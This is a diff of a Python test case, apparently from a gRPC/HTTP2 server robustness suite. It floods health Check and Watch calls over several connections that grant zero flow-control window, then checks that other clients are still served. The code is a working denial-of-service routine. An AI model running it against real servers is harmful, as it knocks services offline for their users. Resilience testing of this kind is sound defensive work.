@@ -1,24 +1,30 @@
-"""Streams whose answers nobody reads: health watches and checks with a window of nothing."""
+"""Calls whose answers nobody reads: health checks and watches of connections that give their streams no window."""
 
-import struct
+from cases import close_hard, others_are_served, rounds, surely_open
+from client import HEALTH
+from hpack import call_headers
+from http2 import DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW, frame, grpc_message, setting
 
-from cases import SOURCE, going
-from http2 import DATA, END_HEADERS, END_STREAM, HEADERS, HEALTH, PREFACE, SETTINGS, call_headers, connect, frame
+SLICE = False  # a watch whose end comes before its beginning aborts the process
+PATHS = (HEALTH, "/grpc.health.v1.Health/Watch")
+CALLS, CONNECTIONS = 900, 4
+LEAST = {"calls": CALLS * CONNECTIONS}
 
-SLICE = True
+
+def call(path, stream):
+    return frame(HEADERS, END_HEADERS, stream, call_headers(path)) + frame(DATA, END_STREAM, stream, grpc_message())
 
 
-def attack(target, until):
-    no_window = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
-    while going(until):
-        try:
-            one = connect(target, SOURCE, timeout=1.0)
-            one.sendall(PREFACE + no_window)
-            for i in range(900):
-                one.sendall(frame(HEADERS, END_HEADERS, 2 * i + 1, call_headers(HEALTH)) +
-                            frame(DATA, END_STREAM, 2 * i + 1, b"\0\0\0\0\0"))
-                if not going(until):
-                    break
-            one.close()
-        except OSError:
-            pass
+def attack(target, until, paths=PATHS, number=CALLS):
+    calls = 0
+    for _ in rounds(until):
+        held = []
+        for _ in range(CONNECTIONS):
+            one = surely_open(target, settings=setting(INITIAL_WINDOW, 0))
+            one.socket.sendall(b"".join(call(paths[index % len(paths)], 2 * index + 1) for index in range(number)))
+            one.ping()
+            calls += number
+            held.append(one.socket)
+        others_are_served(target)
+        close_hard(held)
+    return {"calls": calls}
